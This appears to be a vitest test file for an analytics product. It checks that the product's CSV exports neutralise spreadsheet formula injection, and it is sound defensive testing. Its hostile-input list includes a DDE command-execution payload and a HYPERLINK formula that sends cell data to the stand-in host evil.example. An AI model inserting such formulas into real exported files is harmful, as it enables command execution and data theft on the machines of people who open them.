import { randomUUID } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { unzipSync } from "fflate";
import { beforeAll, expect, test } from "vitest";
import { importFiles, sendFile } from "../src/data/imports/testing.ts";
import { openGarden, type TestGarden } from "./harness.ts";

/**
 * Tables that Rondell hands out are opened in spreadsheets, which run what looks like a formula. A garden is filled with
 * names of strangers that do, by the doors that strangers have, and every table is read as spreadsheets read it.
 */
const hostile = [
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd",
  "-1+cmd",
  "-2",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "a;=1+1",
  'a;"=1+1',
  "a\t@SUM(1)",
  "a\n=1+1",
  '"=1+1',
  'x",=1+1',
  "＝1+1",
];

let garden: TestGarden;
let surveyId: string;
let importId: string;
let customer: string;
let exportId: string;

const ok = async (method: "GET" | "POST", url: string, body?: object) => {
  const answer = await garden.api(method, url, body);
  expect(answer.status, `${method} ${url} ${JSON.stringify(answer.body)}`).toBeLessThan(300);
  return answer.body;
};

beforeAll(async () => {
  garden = await openGarden();
  const { writeKey } = await garden.source("server", {
    statedBasis: { measure: "contract", personalise: "contract", contact: "consent" },
  });
  const batch = hostile.flatMap((text, n) => {
    // An id loses its white space at both ends; what is left must still be another for each.
    const userId = `${text}${n}`;
    const products = [{ product_id: text, name: text, category: text, price: 5, quantity: 1 }];
    const context = { campaign: { name: text, source: text, medium: text } };
    const properties = { order_id: `${text}${n}`, revenue: 5, currency: "EUR", plan: text, products };
    return [
      {
        type: "identify",
        userId,
        traits: { name: text, firstName: text, email: `=x${n}@example.com`, city: text },
        context: { consent: { categoryPreferences: { contact: true } } },
      },
      { type: "group", userId, groupId: `${text}${n}`, traits: { name: text } },
      { type: "track", userId, event: text, properties, context },
      { type: "track", userId, event: "Product Viewed", properties, context },
      { type: "track", userId, event: "Order Completed", properties, context },
    ].map((call, at) => ({ ...call, messageId: `${n}-${at}` }));
  });
  expect(await garden.send(writeKey, "/v1/batch", { batch })).toMatchObject({
    status: 200,
    body: { accepted: batch.length },
  });
  await garden.drained();
  await importPeople();
  await answerSurvey();
  const { jobId } = await ok("POST", "/api/insight/runs", {});
  expect((await garden.app.jobs.ended(jobId)).error).toBeNull();
  await askForFile();
});

/** A list of people of whom some are rejected, with columns and a file of hostile names. */
async function importPeople(): Promise<void> {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const lines = hostile.map((text, n) =>
    [n % 2 ? text : "", `p${n}@example.com`, text, "soon", text].map(quoted).join(","),
  );
  const file = await sendFile(
    garden,
    "=cmd|x.csv",
    `id,mail,first,born,${quoted('=HYPERLINK("x")')}\n${lines.join("\n")}\n`,
  );
  const one = await importFiles(garden, {
    mapping: {
      ...{ title: "=1+1", source: "crm", rules: {} },
      files: { persons: { customer: "id", firstName: "first" } },
    },
    files: [file],
  });
  importId = one.id;
  expect(one.result.rejected).toBeGreaterThan(0);
}

/** A survey whose answers and links are of hostile people. */
async function answerSurvey(): Promise<void> {
  const survey = await ok("POST", "/api/surveys", {
    ...{ name: "=1+1", slug: "tables", language: "en", question: { de: "=1+1", en: "=1+1" } },
  });
  surveyId = survey.id;
  await ok("POST", `/api/surveys/${surveyId}/publish`);
  for (const [n, reason] of hostile.entries()) {
    const answer = await garden.app.http.inject({
      method: "POST",
      url: "/p/api/surveys/tables/answers",
      payload: { key: randomUUID(), score: n % 11, reason },
    });
    expect(answer.statusCode).toBe(200);
  }
  await garden.drained();
}

/** Everything about one of them, as they may have it by law. */
async function askForFile(): Promise<void> {
  customer = (await ok("GET", `/api/customers?search=${encodeURIComponent("=x0@example.com")}`)).items[0].id;
  const request = await ok("POST", "/api/privacy/requests", {
    ...{ whom: { customerId: customer }, kind: "access", words: "=1+1" },
  });
  await ok("POST", `/api/privacy/requests/${request.id}/fulfil`, { language: "en" });
  while (!exportId) {
    const { items } = await ok("GET", "/api/privacy/requests");
    exportId = items.find((item: { id: string }) => item.id === request.id).files[0]?.id;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Cells as a spreadsheet parts them: a quotation mark means something at the start of a cell only. */
function cellsOf(text: string, mark: string): string[] {
  const cells: string[] = [];
  let at = text.startsWith("\ufeff") ? 1 : 0;
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[at++];
        else break;
      }
      at++;
    }
    while (at < text.length && text[at] !== mark && text[at] !== "\n" && text[at] !== "\r")
      cell += text[at++];
    cells.push(cell);
    at++;
  }
  return cells;
}
/** Cells that a spreadsheet would run; numbers may be negative. */
const formulas = (text: string) =>
  [",", ";", "\t"].flatMap((mark) =>
    cellsOf(text, mark).filter(
      (cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+([.,]\d+)*(e-?\d+)?$/.test(cell),
    ),
  );

const period = { from: "2000-01-01", to: "2100-01-01" };
const asked = (ask: object) => encodeURIComponent(JSON.stringify({ ...period, ...ask }));

/** How each table is asked for, and a text that shows that the hostile got there. */
const tables: Record<string, { ask: () => Promise<unknown>; holds: string }> = {
  "GET /api/customers.csv": { ask: () => ok("GET", "/api/customers.csv"), holds: "cmd|" },
  "GET /api/accounts.csv": { ask: () => ok("GET", "/api/accounts.csv"), holds: "cmd|" },
  "GET /api/imports/:id/rejected.csv": {
    ask: () => ok("GET", `/api/imports/${importId}/rejected.csv`),
    holds: "cmd|",
  },
  // Both hold numbers, dates and words of ours alone.
  "GET /api/insight/value/customers.csv": {
    ask: () => ok("GET", "/api/insight/value/customers.csv"),
    holds: "cus_",
  },
  "GET /api/insight/lifecycle/customers.csv": {
    ask: () => ok("GET", "/api/insight/lifecycle/customers.csv"),
    holds: "cus_",
  },
  "GET /api/insight/journeys/funnel.csv": {
    ask: async () => {
      const parts: string[] = [];
      for (const breakdown of ["plan", "campaign", "channel", "medium"]) {
        const steps = [{ event: "Product Viewed" }, { event: "Order Completed" }];
        parts.push(await ok("GET", `/api/insight/journeys/funnel.csv?ask=${asked({ steps, breakdown })}`));
      }
      for (const event of hostile) {
        const steps = [{ event }, { event: "Order Completed" }];
        parts.push(await ok("GET", `/api/insight/journeys/funnel.csv?ask=${asked({ steps })}`));
      }
      return parts.join("");
    },
    holds: "cmd|",
  },
  "GET /api/insight/journeys/paths.csv": {
    ask: async () => {
      const ways = [{ by: "event", touches: 4 }, { by: "channel" }];
      const parts: string[] = [];
      for (const way of ways)
        parts.push(await ok("GET", `/api/insight/journeys/paths.csv?ask=${asked(way)}`));
      return parts.join("");
    },
    holds: "HYPERLINK",
  },
  "GET /api/insight/attribution.csv": {
    ask: () => ok("GET", `/api/insight/attribution.csv?ask=${asked({ windowDays: 365 })}`),
    holds: "channel",
  },
  "POST /api/surveys/:id/links.csv": {
    ask: () => ok("POST", `/api/surveys/${surveyId}/links.csv`, {}),
    holds: "cmd|",
  },
};

/** The two lists without names; the client that offers the way, and the reader of what comes in. */
const mayWrite = /^(insight\/(value|lifecycle)\/store|platform\/clickhouse\/client|data\/imports\/load)\.ts$/;

test("every route that answers a table is one of these, and says so in its address", async () => {
  const declared = garden.app.http.declaredRoutes
    .filter(({ method, url }) => method !== "HEAD" && method !== "OPTIONS" && /\.csv$/.test(url))
    .map(({ method, url }) => `${method} ${url}`);
  expect(declared.sort()).toEqual(Object.keys(tables).sort());
  const source = join(import.meta.dirname, "../src");
  const hidden: string[] = [];
  for (const name of await readdir(source, { recursive: true })) {
    if (!name.endsWith(".ts") || name.endsWith(".test.ts")) continue;
    const text = await readFile(join(source, name), "utf8");
    for (const { index } of text.matchAll(/text\/(csv|tab-separated-values)/g)) {
      const url = [...text.slice(0, index).matchAll(/\burl: "([^"]+)"/g)].at(-1)?.[1];
      if (!url?.endsWith(".csv")) hidden.push(`${name} answers a table at ${url}`);
    }
    // Tables that the event store writes itself pass no hand of ours: they hold numbers and words of ours alone.
    if (/"((CSV|TSV)(With\w+)?"|TabSeparated|CustomSeparated)/.test(text) && !mayWrite.test(name))
      hidden.push(`${name} lets the event store write a table`);
  }
  expect(hidden).toEqual([]);
});

test.each(Object.entries(tables))("%s holds no formula", async (_name, { ask, holds }) => {
  const text = String(await ask());
  expect(text).toContain(holds);
  expect(formulas(text)).toEqual([]);
});

test("the file of everything about a person holds no formula in any of its tables", async () => {
  const { createToken } = await import("../src/garden/tokens/tokens.ts");
  const { token } = await createToken(garden.ctx, { name: "zip", scopes: ["privacy:write"] });
  const answer = await garden.app.http.inject({
    url: `/api/privacy/exports/${exportId}`,
    headers: { authorization: `Bearer ${token}` },
  });
  const csvs = Object.entries(unzipSync(answer.rawPayload)).filter(([name]) => name.endsWith(".csv"));
  expect(csvs.length).toBeGreaterThan(4);
  const texts = csvs.map(([, bytes]) => Buffer.from(bytes).toString("utf8"));
  expect(texts.join("")).toContain("cmd|");
  for (const [at, text] of texts.entries()) expect(formulas(text), csvs[at]![0]).toEqual([]);
});

test("what the command line saves of rejected lines holds no formula", async () => {
  const { asCommand } = await import("./command.ts");
  const folder = await mkdtemp(join(tmpdir(), "rondell-tables-"));
  const path = join(folder, "rejected.csv");
  await asCommand(garden, async (server) =>
    writeFile(path, await server.download(`/api/imports/${importId}/rejected.csv`)),
  );
  const text = await readFile(path, "utf8");
  expect(text).toContain("cmd|");
  expect(formulas(text)).toEqual([]);
  await rm(folder, { recursive: true });
});

test("a reader of this test finds what it looks for", () => {
  for (const bad of ["=1", 'a,"=1"', "a;=1", "a\n=1", 'a,"b\n=1"', "a\t+x", "－1+1"])
    expect(formulas(`${bad}\r\n`), bad).not.toEqual([]);
  expect(formulas('a,-1,"-1,5",1e-7,-1e-7,\'=1\r\n')).toEqual([]);
});
